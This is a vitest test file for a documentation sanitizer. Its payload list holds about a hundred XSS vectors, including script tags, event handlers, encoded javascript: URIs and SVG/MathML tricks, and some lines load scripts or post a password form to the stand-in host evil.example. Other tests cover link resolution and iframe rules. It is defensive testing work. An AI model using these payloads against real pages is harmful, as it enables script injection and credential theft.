import { describe, expect, it } from 'vitest';
import { dangersIn } from '../testing/dangers-in.ts';
import { placeOfPage } from '../testing/page-place.ts';
import { makePageSafe } from './page-html.ts';

const safe = (html: string, uri = 'guide/setup.md') => makePageSafe(html, placeOfPage(uri));

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="img/a.png" onload="alert(1)" ONERROR=alert(2)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="\\\\evil.example\\pixel.gif">',
  '<img srcset="https://evil.example/a.png 2x" src="img/a.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src="img/a.png"></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java%0ascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:https://x">x</a>',
  '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="x" ping="https://evil.example">x</a>',
  '<a id="search" name="cb-main">x</a>',
  '<div id="cb-header" class="cb-header search">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<input type="image" src="https://evil.example/x" onerror="alert(1)">',
  '<input type="text" autofocus onfocus="alert(1)">',
  '<input type="radio" name="x" id="y" onclick="alert(1)">',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://video.example.org.evil.example/"></iframe>',
  '<iframe src="https://video.example.org@evil.example/"></iframe>',
  '<iframe src="http://video.example.org/"></iframe>',
  '<iframe src="//evil.example/"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><path d="M0 0" fill="url(//evil.example/p#x)" stroke="URL (//evil.example/s#x)"/></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<video src="https://evil.example/v.mp4" poster="javascript:alert(1)" onerror=alert(1)></video>',
  '<video><source onerror="alert(1)" src="x"></video>',
  '<audio src="data:text/html,x" onplay=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><head><base href=//evil.example></head>',
  '<table background="javascript:alert(1)"><td background="https://evil.example/x">',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p is="x-evil" slot="y">x</p>',
  '<label for="search"><a href="//evil.example\\@x">x</a></label>',
  '<div contenteditable autofocus onfocus=alert(1) accesskey=x tabindex=1>x</div>',
  '<a href="https://example.org/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<img alt="`><script>alert(1)</script>" src="missing.png">',
  '<img alt="--><script>alert(1)</script>" src="https://evil.example/x.png">',
  `<a href='x" onclick="alert(1)'>x</a>`,
];

describe('a docs page', () => {
  it.each(payloads)('loses what is dangerous in %s', async (payload) => {
    const once = (await safe(payload)).html;
    expect(dangersIn(once)).toEqual([]);
    expect(dangersIn((await safe(`<p>${payload}</p>`)).html)).toEqual([]);
    expect(dangersIn((await safe(`<table><tr><td>${payload}`)).html)).toEqual([]);
    expect(dangersIn((await safe(once)).html)).toEqual([]);
  });

  it('is told apart from what the payloads are by themselves', () => {
    expect(payloads.filter((payload) => dangersIn(payload).length > 0).length).toBeGreaterThan(75);
  });

  it('keeps the text around what it drops', async () => {
    expect((await safe('<p>before <script>x()</script><b>bold</b> after</p>')).html).toBe(
      '<p>before <b>bold</b> after</p>',
    );
  });

  it.each([
    ['../../img/a.png', '<img src="../../img/a.png" decoding="async">'],
    ['../img/a.png', '<img src="../../img/a.png" decoding="async">'],
    ['/img/a.png', '<img src="../../img/a.png" decoding="async">'],
  ])('finds the picture %s whichever way it is written', async (src, html) => {
    expect((await safe(`<img src="${src}">`)).html).toBe(html);
  });

  it.each([
    ['../', '../'],
    ['index.md', '../'],
    ['../#top', '../#docs-top'],
    ['#x', '#docs-x'],
    ['../../a%20b/', '../../a%20b/'],
    ['../a b.md', '../../a%20b/'],
    ['/guide/', '../'],
    ['mailto:a@example.org', 'mailto:a@example.org'],
    ['HTTPS://Example.org', 'https://example.org/'],
    ['../../src/main.ts', 'https://git.example.org/o/r/blob/main/src/main.ts'],
    ['../img/x.html', 'https://git.example.org/o/r/blob/main/docs/img/x.html'],
    ['/catalog/default/component/a/#b', '../../../../../../catalog/default/component/a/#b'],
  ])('resolves the link %s', async (written, href) => {
    const { html, problems } = await safe(`<a href="${written}">x</a>`);
    expect(html).toContain(`href="${href}"`);
    expect(problems).toEqual([]);
  });

  it.each(['missing.md', '../img/none.png', '/nowhere/', '../../../../outside.md'])(
    'shows the broken link %s as text',
    async (written) => {
      const { html, problems } = await safe(`<a href="${written}">x</a>`);
      expect(html).toBe('<span>x</span>');
      expect(problems.map(({ code }) => code)).toEqual(['techdocs/broken-link']);
    },
  );

  it('shows pages of configured hosts, and links to others', async () => {
    const { html, problems } = await safe(
      '<iframe src="https://video.example.org/1"></iframe><iframe title="Other" src="https://other.example.org/2"></iframe>',
    );
    expect(html).toContain('<iframe src="https://video.example.org/1" loading="lazy"');
    expect(html).toContain('<a href="https://other.example.org/2" rel="noopener">Other</a>');
    expect(problems.map(({ code }) => code)).toEqual(['techdocs/iframe-blocked']);
  });

  it('shows pictures of other hosts as links, within a link as text, and says so once', async () => {
    const badge = '<a href="https://ci.example.org/"><img alt="build" src="https://img.example.org/b.svg"></a>';
    const { html, problems } = await safe(`${badge}<img src="https://img.example.org/c.png">`);
    expect(html).toBe(
      '<a href="https://ci.example.org/" rel="noopener"><span>build</span></a><a href="https://img.example.org/c.png" rel="noopener">img.example.org</a>',
    );
    expect(problems.map(({ code }) => code)).toEqual(['techdocs/picture-elsewhere']);
  });

  it('names the checkboxes of task lists by their state', async () => {
    const { html } = await safe('<input type="checkbox" checked><input type="checkbox" aria-label="Buy">');
    expect(html).toBe(
      '<input type="checkbox" checked="" disabled="" aria-label="done"><input type="checkbox" disabled="" aria-label="not done">',
    );
  });

  it('describes itself: headings, title, first paragraph', async () => {
    const page = await safe(
      '<h1 id="a">A <em>page</em><a class="headerlink" href="#a">¶</a></h1><div class="admonition"><p class="admonition-title">Note</p></div><p>First.</p><h2 id="b">B</h2><h3 id="c">C</h3>',
    );
    expect(page.title).toBe('A page');
    expect(page.description).toBe('First.');
    expect(page.headings).toEqual([
      { level: 2, id: 'docs-b', title: 'B' },
      { level: 3, id: 'docs-c', title: 'C' },
    ]);
  });
});
